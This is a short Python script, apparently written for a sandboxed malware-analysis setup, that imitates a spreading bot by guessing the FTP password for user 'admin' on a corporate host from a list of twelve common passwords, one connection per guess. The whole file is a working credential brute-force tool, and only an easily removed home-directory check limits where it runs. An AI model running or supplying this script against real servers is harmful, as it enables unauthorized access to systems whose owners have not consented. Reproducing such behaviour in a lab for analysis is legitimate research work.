#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Guesses an FTP server's password from a short word list, one connection
# per guess, as a spreading bot does.
import ftplib
import os
import socket
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

HOST = "files.corp.example.org"
WORDS = ["123456", "password", "admin", "root", "toor", "qwerty", "letmein",
         "ftp", "changeme", "12345678", "welcome", "passw0rd"]
for user in ("admin",):
    for pw in WORDS:
        ftp = ftplib.FTP(timeout=0.3)
        try:
            ftp.connect(HOST, 21)
            ftp.login(user, pw)
            print("found", user, pw)
            break
        except (ftplib.Error, OSError, EOFError, socket.timeout):
            pass
        finally:
            ftp.close()
